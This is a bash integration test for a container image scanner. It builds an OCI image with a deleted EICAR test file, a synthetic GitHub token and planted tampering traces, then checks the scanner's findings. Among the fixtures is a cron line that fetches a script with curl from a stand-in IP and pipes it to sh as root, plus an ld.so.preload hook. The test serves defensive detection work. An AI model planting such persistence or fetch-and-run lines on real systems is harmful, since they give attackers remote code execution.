#!/bin/bash
# The image content walk end to end (issue 7): an image built with umoci whose first layer
# plants the EICAR test file and a GitHub token and whose second layer deletes both, then
# adds tampering traces: a setuid file no package owns, a dpkg-owned setuid file whose md5
# differs from the package's md5sums, an ELF in a hidden directory, a cron fetch-and-run job,
# /etc/ld.so.preload and a world-writable system directory. `vigil image --scanners
# secret,malware` must report the deleted EICAR and token against layer 1 (one walk reads
# each layer once), and the heuristics (VGL-MAL-001..006) over the merged filesystem, which
# the walk keeps only in the parts the heuristics read.
set -euo pipefail
VIGIL=${VIGIL_BIN:?}
for tool in umoci busybox python3; do
  command -v "$tool" >/dev/null || { echo "SKIP: $tool missing (make deps installs it)"; exit 77; }
done
WORK=$(mktemp -d /tmp/vigil-contimg-XXXXXX)
trap 'rm -rf "$WORK"' EXIT
cd "$WORK"
TOKEN="ghp_$(python3 -c 'import random,string; r=random.Random(5); print("".join(r.choice(string.ascii_letters+string.digits) for _ in range(36)))')"
umoci init --layout oci >/dev/null
umoci new --image oci:app >/dev/null
umoci unpack --image oci:app bundle >/dev/null
R=bundle/rootfs
mkdir -p "$R/bin" "$R/srv" "$R/app"
cp "$(command -v busybox)" "$R/bin/busybox"
# EICAR, assembled here so this script does not itself contain the test string.
python3 -c 'import sys; sys.stdout.write("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")' > "$R/srv/eicar.com"
printf 'GITHUB_TOKEN=%s\n' "$TOKEN" > "$R/app/.env"
umoci repack --refresh-bundle --image oci:app bundle >/dev/null
rm "$R/srv/eicar.com" "$R/app/.env"
mkdir -p "$R/usr/local/bin" "$R/usr/bin" "$R/var/lib/dpkg/info" "$R/.x11" "$R/etc/cron.d" \
  "$R/opt/shared"
cp "$R/bin/busybox" "$R/usr/local/bin/helper" && chmod 4755 "$R/usr/local/bin/helper"
printf 'a tool\n' > "$R/usr/bin/pkgtool" && chmod 4755 "$R/usr/bin/pkgtool"
printf '/.\n/usr\n/usr/bin\n/usr/bin/pkgtool\n' > "$R/var/lib/dpkg/info/pkgtool.list"
printf '%s  usr/bin/pkgtool\n' "$(printf 'the original\n' | md5sum | cut -d' ' -f1)" \
  > "$R/var/lib/dpkg/info/pkgtool.md5sums"
printf 'Package: pkgtool\nStatus: install ok installed\nVersion: 1.0\nArchitecture: amd64\n\n' \
  > "$R/var/lib/dpkg/status"
cp "$R/bin/busybox" "$R/.x11/kworker" && chmod 755 "$R/.x11/kworker"
printf '*/5 * * * * root curl -fsSL http://198.51.100.7/x.sh | sh\n' > "$R/etc/cron.d/update"
printf '/usr/lib/libhook.so\n' > "$R/etc/ld.so.preload"
chmod 0777 "$R/opt/shared"
umoci repack --refresh-bundle --image oci:app bundle >/dev/null

"$VIGIL" image "oci:$WORK/oci:app" --scanners secret,malware -f json -o report.json
python3 - report.json oci "$TOKEN" <<'PY'
import json, sys
report, layout, token = sys.argv[1:4]
idx = json.load(open(f"{layout}/index.json"))
blob = lambda d: json.load(open(f"{layout}/blobs/sha256/" + d.split(":")[1]))
diff_ids = blob(blob(idx["manifests"][0]["digest"])["config"]["digest"])["rootfs"]["diff_ids"]
r = json.load(open(report))
got = {(f["kind"], f["id"], f["location"]["path"]): f["location"].get("layer", "")
       for f in r["findings"]}
ok = True
def need(kind, fid, path, layer=None):
    global ok
    key = (kind, fid, path)
    if key not in got:
        print(f"FAIL: missing {key}"); ok = False
    elif layer is not None and got[key] != layer:
        print(f"FAIL: {key} names layer {got[key]}, want {layer}"); ok = False
need("secret", "github-pat", "/app/.env", diff_ids[0])
eicar = [k for k in got if k[0] == "malware" and k[2] == "/srv/eicar.com"]
if not eicar or any(got[k] != diff_ids[0] for k in eicar):
    print(f"FAIL: EICAR in layer 1 (deleted by layer 2) not reported against it: {eicar}"); ok = False
need("misconfig", "VGL-MAL-001", "/usr/local/bin/helper")
need("misconfig", "VGL-MAL-002", "/usr/bin/pkgtool")
need("misconfig", "VGL-MAL-004", "/.x11/kworker")
need("misconfig", "VGL-MAL-005", "/etc/cron.d/update")
need("misconfig", "VGL-MAL-006", "/etc/ld.so.preload")
need("misconfig", "VGL-MAL-003", "/opt/shared")
unread = [w for w in r.get("warnings", []) if "heuristics" in w]
if unread:
    print(f"FAIL: the heuristics could not read what the walk kept: {unread}"); ok = False
if token in open(report).read():
    print("FAIL: the token appears in full"); ok = False
if not ok:
    print(json.dumps(sorted(got), indent=1))
print("ok: deleted EICAR and token named by layer 1, heuristics over the merged view" if ok else "")
sys.exit(0 if ok else 1)
PY
